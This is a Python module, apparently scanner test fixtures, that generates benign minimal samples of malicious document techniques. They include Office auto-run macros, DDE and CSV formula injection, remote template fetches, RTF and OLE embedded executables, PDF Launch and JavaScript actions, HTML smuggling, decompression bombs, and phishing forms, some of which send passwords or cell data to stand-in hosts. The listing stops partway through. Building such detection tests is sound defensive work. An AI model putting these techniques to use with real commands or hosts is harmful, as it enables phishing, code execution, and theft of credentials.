"""The shapes of hostile documents: each in its smallest form, and none of them harmful.

The worst act is `Shell "notepad.exe"`, every address ends in `.invalid`, every program returns at
once, and what stands for a known evil is EICAR's test file.
"""

import base64
import binascii
import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator

from made_archives import (
    EICAR,
    cd,
    fixed_disk,
    floppy,
    growing_disk,
    locked,
    newer_disk,
    notebook,
    overlapping,
    program,
    shortcut,
    with_seven,
    zipped,
)
from made_compound import compound, native, packed, project, record, sheet, word, workbook
from made_office import Pdf, field, office, opendocument, relations
from pikepdf import Array, Dictionary, Name, String

AUTO = 'Sub AutoOpen()\n  Shell "notepad.exe"\nEnd Sub\n'
AUTO_BOOK = 'Sub Workbook_Open()\n  CreateObject("WScript.Shell").Run "notepad.exe"\nEnd Sub\n'
MANUAL = "Sub Calculer()\n  Cells(1, 1).Value = 42\nEnd Sub\n"
AWAY = "http://modele.invalid/form.dotm"
Make = Callable[[], bytes]
PACKAGE = "0003000c-0000-0000-c000-000000000046"
EQUATION = "0002ce02-0000-0000-c000-000000000046"


def shapes() -> Iterator[tuple[str, str, bytes]]:
    """Yield every shape: its slug, the name its file goes by, its bytes."""
    for group in (_macros, _sheets, _fields, _fetches, _objects, _rtf, _pdf, _pages, _scripts,
                  _images, _archives, _names, _faces, _flat):  # fmt: skip
        for slug, name, make in group():
            yield slug, name, make()


def vba(source: str = AUTO) -> bytes:
    """Return a project of macros as office files keep it."""
    return compound(project(source))


def _macros() -> Iterator[tuple[str, str, Make]]:
    yield (
        "docm_auto",
        "Remboursement.docm",
        lambda: office("word", {"word/vbaProject.bin": vba()}, enabled=True),
    )
    yield (
        "docm_document_open",
        "a.docm",
        lambda: office(
            "word",
            {"word/vbaProject.bin": vba(AUTO.replace("AutoOpen", "Document_Open"))},
            enabled=True,
        ),
    )
    yield (
        "docm_close",
        "b.docm",
        lambda: office(
            "word",
            {"word/vbaProject.bin": vba(AUTO.replace("AutoOpen", "AutoClose"))},
            enabled=True,
        ),
    )
    yield (
        "xlsm_auto",
        "Tableau.xlsm",
        lambda: office("xl", {"xl/vbaProject.bin": vba(AUTO_BOOK)}, enabled=True),
    )
    yield (
        "pptm_auto",
        "Diapo.pptm",
        lambda: office("ppt", {"ppt/vbaProject.bin": vba(AUTO)}, enabled=True),
    )
    yield (
        "dotm_auto",
        "Modele.dotm",
        lambda: office("word", {"word/vbaProject.bin": vba()}, enabled=True),
    )
    yield (
        "xlam_auto",
        "Outil.xlam",
        lambda: office("xl", {"xl/vbaProject.bin": vba(AUTO_BOOK)}, enabled=True),
    )
    yield "doc_auto", "Courrier.doc", lambda: word(extra=project(AUTO, "Macros/VBA"))
    yield "dot_auto", "Modele.dot", lambda: word(extra=project(AUTO, "Macros/VBA"))
    yield (
        "xls_auto",
        "Compta.xls",
        lambda: workbook(sheet("Feuil1"), extra=project(AUTO_BOOK, "_VBA_PROJECT_CUR/VBA")),
    )
    yield "ppt_auto", "Reunion.ppt", lambda: _slides(vba())
    yield "ppt_auto_packed", "Reunion2.ppt", lambda: _slides(vba(), pack=True)
    yield (
        "docm_manual",
        "Ordonnancier.docm",
        lambda: office("word", {"word/vbaProject.bin": vba(MANUAL)}, enabled=True),
    )
    yield "docx_named_part", "Facture.docx", lambda: office("word", {"word/vbaProject.bin": vba()})
    yield "docx_renamed_part", "Facture2.docx", lambda: office("word", {"word/donnees.bin": vba()})
    yield (
        "docx_part_as_image",
        "Facture3.docx",
        lambda: office("word", {"word/media/image1.png": vba()}),
    )
    yield "docx_enabled_type", "Facture4.docx", lambda: office("word", enabled=True)
    yield (
        "docm_as_docx",
        "Facture5.docx",
        lambda: office("word", {"word/vbaProject.bin": vba()}, enabled=True),
    )
    yield "doc_as_docx", "Facture6.docx", lambda: word(extra=project(AUTO, "Macros/VBA"))
    yield "doc_as_rtf", "Facture7.rtf", lambda: word(extra=project(AUTO, "Macros/VBA"))
    yield (
        "docm_as_doc",
        "Facture8.doc",
        lambda: office("word", {"word/vbaProject.bin": vba()}, enabled=True),
    )
    yield (
        "docm_as_rtf",
        "Facture9.rtf",
        lambda: office("word", {"word/vbaProject.bin": vba()}, enabled=True),
    )
    yield (
        "macro_split_lines",
        "c.docm",
        lambda: office(
            "word",
            {
                "word/vbaProject.bin": vba(
                    'Sub Auto_Open()\n x = CreateObject _\n ("WScript.Shell")\nEnd Sub\n'
                )
            },
            enabled=True,
        ),
    )
    yield (
        "macro_frame_event",
        "d.docm",
        lambda: office(
            "word",
            {
                "word/vbaProject.bin": vba(
                    'Sub InkEdit1_GotFocus()\n Shell "notepad.exe"\nEnd Sub\n'
                )
            },
            enabled=True,
        ),
    )
    yield (
        "macro_declares_library",
        "e.docm",
        lambda: office(
            "word",
            {
                "word/vbaProject.bin": vba(
                    'Declare Function X Lib "urlmon" Alias "URLDownloadToFileA" ()\nSub AutoOpen()\nEnd Sub\n'
                )
            },
            enabled=True,
        ),
    )
    yield (
        "odt_basic",
        "Lettre.odt",
        lambda: opendocument(
            {
                "Basic/Standard/Module1.xml": b'<script:module xmlns:script="x">Sub Main\n Shell("notepad.exe")\nEnd Sub</script:module>'
            },
            _listener("dom:load"),
        ),
    )
    yield (
        "odt_basic_no_listener",
        "Lettre2.odt",
        lambda: opendocument(
            {
                "Basic/Standard/Module1.xml": b'<script:module xmlns:script="x">Sub Main\n Shell("notepad.exe")\nEnd Sub</script:module>'
            }
        ),
    )
    yield (
        "odt_python",
        "Lettre3.odt",
        lambda: opendocument({"Scripts/python/a.py": b"import os\nos.system('true')\n"}),
    )
    yield (
        "odt_traversal",
        "Lettre4.odt",
        lambda: opendocument(
            {},
            _listener(
                "dom:mouseover",
                "vnd.sun.star.script:../../program/pydoc.py$tempfilepager?language=Python&amp;location=share",
            ),
        ),
    )
    yield (
        "ods_macro_event",
        "Table.ods",
        lambda: opendocument(
            {
                "Basic/Standard/M.xml": b'<script:module xmlns:script="x">Sub A\n x = 1\nEnd Sub</script:module>'
            },
            _listener("office:load-finished"),
            "spreadsheet",
        ),
    )
    yield "encrypted_own_password", "Calcul.xls", _own_password


def _listener(
    event: str,
    href: str = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document",
) -> str:
    return f'<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="{event}" xlink:href="{href}"/></office:event-listeners></office:scripts>'


def _slides(inner: bytes, *, pack: bool = False) -> bytes:
    body = struct.pack("<I", len(inner)) + zlib.compress(inner) if pack else inner
    atom = struct.pack("<HHI", 0x10 if pack else 0, 0x1011, len(body)) + body
    return compound({"PowerPoint Document": atom.ljust(4096, b"\0"), "Current User": b"\0" * 64})


def _own_password() -> bytes:
    """Return a workbook under the password that Excel tries by itself."""
    from msoffcrypto.format.ooxml import OOXMLFile  # noqa: PLC0415  (slow to import, used once)

    plain = io.BytesIO(
        office(
            "xl",
            {
                "xl/vbaProject.bin": vba(AUTO_BOOK),
                "xl/media/pad.bin": random.Random(7).randbytes(16_000),
            },
            enabled=True,
        )
    )
    out = io.BytesIO()
    OOXMLFile(plain).encrypt("VelvetSweatshop", out)
    return out.getvalue()


def _sheets() -> Iterator[tuple[str, str, Make]]:
    formula = record(6, b"\0" * 20 + b"\x06\0" + b"\x17\x03\0abc" + b"\x42\x01\x6e\0" + b"\0" * 4)
    yield "xls_macro_sheet", "f.xls", lambda: workbook(sheet("Macro1", 1))
    yield (
        "xls_macro_sheet_auto",
        "g.xls",
        lambda: workbook(
            sheet("Macro1", 1, 2),
            record(0x18, b"\x20\0\0\1\0\0\0\0\0\0\0\0\0\0\0\1" + b"\0" * 8),
            formula,
        ),
    )
    yield (
        "xls_macro_sheet_old",
        "h.xls",
        lambda: (
            record(0x409, struct.pack("<HHH", 0, 0x40, 0))
            + record(0x18, b"Auto_Open")
            + record(0x0A)
        ),
    )
    yield (
        "xlsm_macro_sheet",
        "i.xlsm",
        lambda: office(
            "xl",
            {
                "xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="x"><f>EXEC("notepad.exe")</f></xm:macrosheet>'
            },
            enabled=True,
        ),
    )
    yield (
        "xlsb_macro_sheet",
        "j.xlsb",
        lambda: office(
            "xl",
            {
                "xl/macrosheets/sheet1.bin": b"\x81\1" * 40,
                "xl/workbook.bin": "Auto_Open".encode("utf-16-le"),
            },
        ),
    )
    yield (
        "slk_exec",
        "k.slk",
        lambda: (
            b'ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC("notepad.exe")\nC;X1;Y102;K0;EHALT()\nE\n'
        ),
    )
    yield "iqy", "l.iqy", lambda: b"WEB\r\n1\r\nhttp://requete.invalid/a.dat\r\n\r\nSelection=1\r\n"
    yield (
        "xlsm_auto_name",
        "m.xlsm",
        lambda: office(
            "xl",
            {
                "xl/workbook.xml": b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>'
            },
        ),
    )


def _fields() -> Iterator[tuple[str, str, Make]]:
    command = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k notepad.exe"'
    yield "docx_dde", "n.docx", lambda: office("word", body=field(command))
    yield (
        "docx_dde_simple",
        "o.docx",
        lambda: office("word", body=f"<w:p><w:fldSimple w:instr='{command}'/></w:p>"),
    )
    yield (
        "docx_dde_split",
        "p.docx",
        lambda: office(
            "word",
            body='<w:fldChar w:fldCharType="begin"/><w:instrText>DDEA</w:instrText><w:instrText>UTO cmd.exe</w:instrText>',
        ),
    )
    yield (
        "docx_dde_quoted",
        "q.docx",
        lambda: office("word", body=field("QUOTE 68 68 69 65 85 84 79 32 99 109 100")),
    )
    yield (
        "docx_dde_header",
        "r.docx",
        lambda: office(
            "word", {"word/header1.xml": f'<w:hdr xmlns:w="x">{field(command)}</w:hdr>'.encode()}
        ),
    )
    yield (
        "doc_dde",
        "s.doc",
        lambda: word('Bonjour \x13 DDEAUTO cmd.exe "/k notepad.exe" \x14\x15 fin'),
    )
    yield (
        "xlsx_dde",
        "t.xlsx",
        lambda: office(
            "xl",
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c notepad.exe"/></externalLink>'
            },
        ),
    )
    yield (
        "xlsb_dde",
        "u.xlsb",
        lambda: office(
            "xl",
            {
                "xl/externalLinks/externalLink1.bin": b"\xe8\2\x40\1\0"
                + struct.pack("<I", 3)
                + "cmd".encode("utf-16-le")
                + struct.pack("<I", 8)
                + "/c calc ".encode("utf-16-le")
            },
        ),
    )
    yield (
        "xls_dde",
        "v.xls",
        lambda: workbook(
            sheet("F"), record(0x1AE, struct.pack("<HHB", 0, 16, 0) + b"cmd\x03/c notepad")
        ),
    )
    yield "csv_dde", "w.csv", lambda: b"nom;total\n=cmd|'/C notepad.exe'!A0;3\n"
    yield "csv_dde_quoted", "x.csv", lambda: b"nom,total\n\"=cmd|'/C notepad.exe'!A0\",3\n"
    yield "csv_dde_plus", "y.csv", lambda: b"a;b\n+cmd|' /C notepad'!A1;2\n"
    yield "csv_webservice", "z.csv", lambda: b'a;b\n=WEBSERVICE("http://x.invalid/?"&A1);2\n'
    yield (
        "ods_dde",
        "aa.ods",
        lambda: opendocument(
            {},
            '<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c notepad" office:dde-item="x"/>',
            "spreadsheet",
        ),
    )
    yield (
        "pptx_program_click",
        "ab.pptx",
        lambda: office(
            "ppt",
            {
                "ppt/slides/slide1.xml": b'<p:sld><a:hlinkMouseOver action="ppaction://program"/></p:sld>'
            },
        ),
    )
    yield (
        "docx_includetext",
        "ac.docx",
        lambda: office("word", body=field('INCLUDETEXT "http://x.invalid/a.docx"')),
    )


def _fetches() -> Iterator[tuple[str, str, Make]]:
    yield (
        "docx_template",
        "ad.docx",
        lambda: office("word", rows=[("attachedTemplate", AWAY, True)]),
    )
    yield (
        "docx_template_share",
        "ae.docx",
        lambda: office("word", rows=[("attachedTemplate", r"\\203.0.113.9\p\a.dotm", True)]),
    )
    yield (
        "docx_object",
        "af.docx",
        lambda: office("word", rows=[("oleObject", "http://x.invalid/a.hta", True)]),
    )
    yield (
        "docx_object_mhtml",
        "ag.docx",
        lambda: office(
            "word",
            rows=[
                ("oleObject", "mhtml:http://x.invalid/a.html!x-usc:http://x.invalid/a.html", True)
            ],
        ),
    )
    yield (
        "docx_frame",
        "ah.docx",
        lambda: office("word", rows=[("frame", "http://x.invalid/f.html", True)]),
    )
    yield (
        "docx_subdocument",
        "ai.docx",
        lambda: office("word", rows=[("subDocument", "http://x.invalid/s.docx", True)]),
    )
    yield (
        "docx_settings_template",
        "aj.docx",
        lambda: office(
            "word", {"word/_rels/settings.xml.rels": relations(("attachedTemplate", AWAY, True))}
        ),
    )
    yield (
        "docx_entity_target",
        "ak.docx",
        lambda: office("word", rows=[("attachedTemplate", "&#104;ttp://x.invalid/a.dotm", True)]),
    )
    yield (
        "docx_msdt_link",
        "al.docx",
        lambda: office("word", rows=[("hyperlink", "ms-msdt:/id PCWDiagnostic", True)]),
    )
    yield (
        "docx_share_image",
        "am.docx",
        lambda: office("word", rows=[("image", "file://203.0.113.9/p/a.png", True)]),
    )
    yield (
        "docx_altchunk_rtf",
        "an.docx",
        lambda: office(
            "word", {"word/a.rtf": _rtf_package("a.exe", program())}, [("aFChunk", "a.rtf", False)]
        ),
    )
    yield (
        "xlsx_connection",
        "ao.xlsx",
        lambda: office(
            "xl",
            {
                "xl/connections.xml": b'<connections><connection refreshOnLoad="1"><webPr url="http://x.invalid/q"/></connection></connections>'
            },
        ),
    )
    yield (
        "odt_remote_object",
        "ap.odt",
        lambda: opendocument({}, '<draw:object xlink:href="http://x.invalid/a.ods"/>'),
    )
    yield (
        "odt_remote_section",
        "aq.odt",
        lambda: opendocument(
            {},
            '<text:section><text:section-source xlink:href="http://x.invalid/a.odt"/></text:section>',
        ),
    )
    yield (
        "odt_floating_frame",
        "ar.odt",
        lambda: opendocument({}, '<draw:floating-frame xlink:href="http://x.invalid/f.html"/>'),
    )
    yield (
        "pptx_remote_object",
        "as.pptx",
        lambda: office(
            "ppt",
            {
                "ppt/slides/_rels/slide1.xml.rels": relations(
                    ("oleObject", "http://x.invalid/a.xlsx", True)
                )
            },
        ),
    )


def _objects() -> Iterator[tuple[str, str, Make]]:
    carried = compound({"\1Ole10Native": native("facture.exe", program())}, clsid=PACKAGE)
    script = compound({"\1Ole10Native": native("facture.js", b"WScript.Echo(1)")}, clsid=PACKAGE)
    yield (
        "docx_package_exe",
        "at.docx",
        lambda: office("word", {"word/embeddings/oleObject1.bin": carried}),
    )
    yield (
        "docx_package_script",
        "au.docx",
        lambda: office("word", {"word/embeddings/oleObject1.bin": script}),
    )
    yield (
        "docx_package_text",
        "av.docx",
        lambda: office(
            "word",
            {
                "word/embeddings/oleObject1.bin": compound(
                    {"\1Ole10Native": native("note.txt", b"bonjour")}
                )
            },
        ),
    )
    yield (
        "xlsx_package_exe",
        "aw.xlsx",
        lambda: office("xl", {"xl/embeddings/oleObject1.bin": carried}),
    )
    yield (
        "pptx_package_exe",
        "ax.pptx",
        lambda: office("ppt", {"ppt/embeddings/oleObject1.bin": carried}),
    )
    yield (
        "doc_package_exe",
        "ay.doc",
        lambda: word(extra={"ObjectPool/_1/\1Ole10Native": native("a.exe", program())}),
    )
    yield (
        "xls_package_exe",
        "az.xls",
        lambda: workbook(sheet("F"), extra={"MBD01/\1Ole10Native": native("a.exe", program())}),
    )
    yield "ppt_package_exe", "ba.ppt", lambda: _slides(carried)
    yield (
        "docx_equation",
        "bb.docx",
        lambda: office(
            "word",
            {
                "word/embeddings/oleObject1.bin": compound(
                    {
                        "Equation Native": b"\x1c\0\0\0\2\0\x9e\xc4"
                        + b"\0" * 20
                        + b"\3\1\1\3\x0a\x08\x5a\x5a"
                        + b"cmd.exe /c notepad AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                    },
                    clsid=EQUATION,
                )
            },
        ),
    )
    yield (
        "docx_activex",
        "bc.docx",
        lambda: office(
            "word",
            {
                "word/activeX/activeX1.bin": b"\0" * 64,
                "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="x"/>',
            },
        ),
    )
    yield (
        "docx_embedded_docm",
        "bd.docx",
        lambda: office(
            "word",
            {
                "word/embeddings/d.docm": office(
                    "word", {"word/vbaProject.bin": vba()}, enabled=True
                )
            },
        ),
    )
    yield "odt_object_exe", "be.odt", lambda: opendocument({"Object 1": carried})
    yield (
        "doc_linked_object",
        "bf.doc",
        lambda: word(
            extra={
                "ObjectPool/_1/\1Ole": b"\1\0\0\2\1\0\0\0"
                + b"\0" * 20
                + "http://x.invalid/a.hta".encode("utf-16-le")
            }
        ),
    )
    yield (
        "docx_renamed_exe",
        "bg.docx",
        lambda: office("word", {"word/embeddings/a.bin": program()}),
    )
    yield (
        "msg_with_script",
        "bh.msg",
        lambda: compound(
            {
                "__substg1.0_0037001F": b"a\0",
                "__attach_version1.0_#00000000/__substg1.0_3707001F": "facture.js".encode(
                    "utf-16-le"
                ),
                "__attach_version1.0_#00000000/__substg1.0_37010102": b"new ActiveXObject('WScript.Shell')",
            }
        ),
    )
    yield (
        "onenote_hta",
        "bi.one",
        lambda: notebook("ouvrir.hta", b"<html><hta:application/><script>1</script></html>"),
    )
    yield "onenote_exe", "bj.one", lambda: notebook("ouvrir.exe", program())
    yield "onenote_cmd", "bk.one", lambda: notebook("ouvrir.cmd", b"@echo off\r\nnotepad.exe\r\n")
    yield (
        "eml_with_docm",
        "bl.eml",
        lambda: (
            b"From: a@b.invalid\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=a.docm\r\nContent-Disposition: attachment; filename=a.docm\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(office("word", {"word/vbaProject.bin": vba()}, enabled=True))
        ),
    )
    yield (
        "mht_active_mime",
        "bm.doc",
        lambda: (
            b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(b"ActiveMime".ljust(0x32, b"\0") + zlib.compress(vba()))
            + b"\r\n--x--\r\n"
        ),
    )


def _hexed(raw: bytes) -> bytes:
    return raw.hex().encode()


def _ole_one(name: str, data: bytes) -> bytes:
    label = name.encode() + b"\0"
    return (
        struct.pack("<III", 0x501, 2, len(label))
        + label
        + struct.pack("<III", 0, 0, len(data))
        + data
    )


def _rtf_package(name: str, content: bytes) -> bytes:
    inner = native(name, content)[4:]
    return (
        b"{\\rtf1 Bonjour {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata "
        + _hexed(_ole_one("Package", inner))
        + b"}}}"
    )


def _rtf() -> Iterator[tuple[str, str, Make]]:
    equation = _ole_one("Equation.3", compound({"Equation Native": b"\0" * 64}, clsid=EQUATION))
    yield "rtf_package", "bn.rtf", lambda: _rtf_package("a.exe", program())
    yield (
        "rtf_package_as_doc",
        "bo.doc",
        lambda: _rtf_package("a.js", b"var x = new ActiveXObject('WScript.Shell')"),
    )
    yield (
        "rtf_equation",
        "bp.rtf",
        lambda: b"{\\rtf1{\\object\\objupdate{\\*\\objdata " + _hexed(equation) + b"}}}",
    )
    yield (
        "rtf_broken_hex",
        "bq.rtf",
        lambda: (
            b"{\\rt{\\object\\objupdate{\\*\\objdata "
            + b"{\\x}\r\n ".join(
                _hexed(equation)[i : i + 7] for i in range(0, 2 * len(equation), 7)
            )
            + b"}}}"
        ),
    )
    yield (
        "rtf_link",
        "br.rtf",
        lambda: (
            b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata "
            + _hexed(
                _ole_one(
                    "OLE2Link",
                    compound(
                        {
                            "\1Ole": b"\1\0\0\2\1\0\0\0"
                            + b"\0" * 20
                            + "http://x.invalid/a.hta".encode("utf-16-le")
                        }
                    ),
                )
            )
            + b"}}}"
        ),
    )
    yield (
        "rtf_template",
        "bs.rtf",
        lambda: b"{\\rtf1{\\*\\template http://x.invalid/a.dotm}Bonjour}",
    )
    yield (
        "rtf_template_escaped",
        "bt.rtf",
        lambda: b"{\\rtf1{\\*\\template \\u-65432?\\'68\\'74tp://x.invalid/a}Bonjour}".replace(
            b"\\u-65432?", b""
        ),
    )
    yield (
        "rtf_dde",
        "bu.rtf",
        lambda: b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd.exe "/k notepad"}{\\fldrslt x}}}',
    )
    yield (
        "rtf_binary_object",
        "bv.rtf",
        lambda: (
            b"{\\rtf1{\\object{\\*\\objdata\\bin"
            + str(len(equation)).encode()
            + b" "
            + equation
            + b"}}}"
        ),
    )
    yield (
        "rtf_upper",
        "bw.rtf",
        lambda: b"{\\rtf1{\\object\\objupdate{\\*\\objdata " + _hexed(equation).upper() + b"}}}",
    )


def _pdf() -> Iterator[tuple[str, str, Make]]:
    def opening(text: str, **options: bool) -> Make:
        def make() -> bytes:
            pdf = Pdf()
            pdf.root.OpenAction = pdf.script(text)
            return pdf.bytes(**options)

        return make

    yield "pdf_script", "bx.pdf", opening("app.alert('bonjour');")
    yield "pdf_script_packed", "by.pdf", opening("app.alert('bonjour');", packed=True)
    yield "pdf_script_spray", "bz.pdf", opening("var s = unescape('%u9090%u9090');")
    yield (
        "pdf_script_drops",
        "ca.pdf",
        opening("this.exportDataObject({cName: 'a.exe', nLaunch: 2});"),
    )
    yield (
        "pdf_script_behind_af",
        "cb.pdf",
        opening("AFNumber_Format(2,0,0,0,'',true); app.launchURL('http://x.invalid');"),
    )
    yield "pdf_script_submits", "cc.pdf", opening("this.submitForm('http://x.invalid');")

    def with_root(change: Callable[[Pdf], None], **options: bool) -> Make:
        def make() -> bytes:
            pdf = Pdf()
            change(pdf)
            return pdf.bytes(**options)

        return make

    def launch(pdf: Pdf) -> None:
        pdf.root.OpenAction = pdf.make(S=Name.Launch, F=String("cmd.exe"))

    def launch_windows(pdf: Pdf) -> None:
        pdf.link(
            pdf.make(
                S=Name.Launch, Win=Dictionary(F=String("powershell.exe"), P=String("-c notepad"))
            )
        )

    def names(pdf: Pdf) -> None:
        tree = pdf.make(Names=Array([String("a"), pdf.script("app.alert(1);")]))
        pdf.root.Names = Dictionary(JavaScript=tree)

    def page_action(pdf: Pdf) -> None:
        pdf.page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1);")))

    def submits(pdf: Pdf) -> None:
        pdf.link(pdf.make(S=Name.SubmitForm, F=String("http://x.invalid/collecte")))

    def far(pdf: Pdf) -> None:
        pdf.root.OpenAction = pdf.make(
            S=Name.GoToR, F=String("\\\\203.0.113.9\\p\\a.pdf"), D=Array([0, Name.Fit])
        )

    def address(pdf: Pdf) -> None:
        pdf.root.OpenAction = pdf.make(S=Name.URI, URI=String("http://x.invalid"))

    def local_link(pdf: Pdf) -> None:
        pdf.link(pdf.make(S=Name.URI, URI=String("file://203.0.113.9/p/a.exe")))

    def password(pdf: Pdf) -> None:
        pdf.form(pdf.box("mot de passe", Ff=1 << 13))
        pdf.root.OpenAction = pdf.make(S=Name.SubmitForm, F=String("http://x.invalid/collecte"))

    def xfa(pdf: Pdf) -> None:
        stream = pdf.file.make_stream(
            b'<xdp:xdp xmlns:xdp="x"><template><script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>'
        )
        pdf.form(XFA=stream)

    def media(pdf: Pdf) -> None:
        pdf.page.Annots = Array(
            [pdf.make(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))]
        )

    def attach(name: str, content: bytes) -> Callable[[Pdf], None]:
        return lambda pdf: pdf.attach(name, content)

    yield "pdf_launch", "cd.pdf", with_root(launch)
    yield "pdf_launch_windows", "ce.pdf", with_root(launch_windows)
    yield "pdf_named_script", "cf.pdf", with_root(names)
    yield "pdf_page_script", "cg.pdf", with_root(page_action)
    yield "pdf_submits", "ch.pdf", with_root(submits)
    yield "pdf_goes_far", "ci.pdf", with_root(far)
    yield "pdf_opens_address", "cj.pdf", with_root(address)
    yield "pdf_share_link", "ck.pdf", with_root(local_link)
    yield "pdf_password_form", "cl.pdf", with_root(password)
    yield "pdf_xfa_script", "cm.pdf", with_root(xfa)
    yield "pdf_media", "cn.pdf", with_root(media)
    yield "pdf_attached_exe", "co.pdf", with_root(attach("facture.exe", program()))
    yield (
        "pdf_attached_docm",
        "cp.pdf",
        with_root(attach("a.docm", office("word", {"word/vbaProject.bin": vba()}, enabled=True))),
    )
    yield (
        "pdf_attached_script",
        "cq.pdf",
        with_root(attach("a.js", b"new ActiveXObject('WScript.Shell')")),
    )
    yield "pdf_attached_eicar", "cr.pdf", with_root(attach("a.txt", EICAR))
    yield "pdf_locked", "cs.pdf", lambda: Pdf().bytes(encryption=_encryption())
    yield "pdf_swells", "ct.pdf", lambda: _pdf_swells(2)
    yield (
        "pdf_packed_objects_swell",
        "cu.pdf",
        lambda: (
            b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>>\nstream\n"
            + zlib.compress(b"\0" * (64 << 20), 9)
            + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
        ),
    )
    yield "pdf_unreadable", "cv.pdf", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 8


def _encryption() -> object:
    import pikepdf  # noqa: PLC0415  (its class of settings alone)

    return pikepdf.Encryption(owner="un secret bien gardé", user="un autre secret")


def _pdf_swells(layers: int) -> bytes:
    raw = b"\0" * (300 << 20)
    for _ in range(layers):
        raw = zlib.compress(raw, 9)
    pdf = Pdf()
    stream = pdf.file.make_stream(raw)
    stream.stream_dict.Filter = Array([Name.FlateDecode] * layers)
    pdf.page.Contents = stream
    from pikepdf import StreamDecodeLevel  # noqa: PLC0415  (here alone)

    return pdf.bytes(compress_streams=False, stream_decode_level=StreamDecodeLevel.none)  # type: ignore[arg-type]  # options of save


def _pages() -> Iterator[tuple[str, str, Make]]:
    blob = base64.b64encode(zipped({"a.js": b"1"})).decode()
    yield (
        "html_blob",
        "cw.html",
        f"<html><script>var b=new Blob([atob('{blob}')]);a.href=URL.createObjectURL(b);a.download='a.zip'</script></html>".encode,
    )
    yield (
        "html_data_link",
        "cx.html",
        f"<html><a download='a.zip' href='data:application/zip;base64,{blob}'>Ouvrir</a></html>".encode,
    )
    yield (
        "html_save_blob",
        "cy.htm",
        lambda: (
            b"<html><script>navigator.msSaveOrOpenBlob(new Blob([new Uint8Array(8)]),'a.iso')</script></html>"
        ),
    )
    yield (
        "html_unescape",
        "cz.html",
        lambda: (
            b"<html><script>document.write(unescape('%3Cscript%3Ealert(1)%3C/script%3E'))</script></html>"
        ),
    )
    yield (
        "html_login",
        "da.html",
        lambda: (
            b"<html><form action='https://x.invalid/l' method=post><input name=mail><input type=password name=p></form></html>"
        ),
    )
    yield (
        "html_login_fetch",
        "db.html",
        lambda: (
            b"<html><input type='password' id=p><script>fetch('https://x.invalid',{method:'POST',body:p.value})</script></html>"
        ),
    )
    yield (
        "html_refresh",
        "dc.html",
        lambda: b"<html><meta http-equiv='refresh' content='0;url=https://x.invalid/'></html>",
    )
    yield (
        "html_location",
        "dd.shtml",
        lambda: b"<html><script>window.location.href='https://x.invalid/'</script></html>",
    )
    yield (
        "html_activex",
        "de.html",
        lambda: b"<html><script>new ActiveXObject('WScript.Shell').Run('notepad')</script></html>",
    )
    yield (
        "html_search_scheme",
        "df.html",
        lambda: (
            b"<html><script>location='search-ms:query=a&crumb=location:\\\\x.invalid'</script></html>"
        ),
    )
    yield (
        "svg_script",
        "dg.svg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    )
    yield (
        "svg_onload",
        "dh.svg",
        lambda: (
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='location=\"https://x.invalid\"'/>"
        ),
    )
    yield (
        "svg_blob",
        "di.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>var b=new Blob([atob('{blob}')]);URL.createObjectURL(b)</script></svg>".encode,
    )
    yield (
        "svg_foreign_page",
        "dj.svg",
        lambda: (
            b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='x'><form action='https://x.invalid'><input type='password'/></form></body></foreignObject></svg>"
        ),
    )


def _scripts() -> Iterator[tuple[str, str, Make]]:
    shell = b"var s = new ActiveXObject('WScript.Shell'); s.Run('notepad.exe');"
    for ending, text in {
        "js": shell, "jse": b"#@~^DgAAAA==\\ko$K6,J4kE#KAAAA==^#~@", "vbs": b'CreateObject("WScript.Shell").Run "notepad.exe"',
        "vbe": b"#@~^DgAAAA==\\ko$K6,J4kE#KAAAA==^#~@", "wsf": b"<job><script language='JScript'>1</script></job>",
        "hta": b"<html><hta:application/><script>1</script></html>", "bat": b"@echo off\r\nnotepad.exe\r\n", "cmd": b"@notepad.exe\r\n",
        "ps1": b"Start-Process notepad.exe\r\n", "sct": b"<scriptlet></scriptlet>", "reg": b"Windows Registry Editor Version 5.00\r\n",
        "py": b"import os\nos.system('true')\n", "sh": b"#!/bin/sh\ntrue\n", "settingcontent-ms": b"<?xml version='1.0'?><PCSettings><DeepLink>notepad.exe</DeepLink></PCSettings>",
        "library-ms": b"<?xml version='1.0'?><libraryDescription><url>\\\\x.invalid\\p</url></libraryDescription>",
        "jnlp": b"<?xml version='1.0'?><jnlp codebase='http://x.invalid'/>", "scr": program(), "exe": program(), "pif": program(), "com": program(), "cpl": program(),
        "msi": compound({"\u4840\u3f3f": b"x" * 64}, clsid="000c1084-0000-0000-c000-000000000046"),
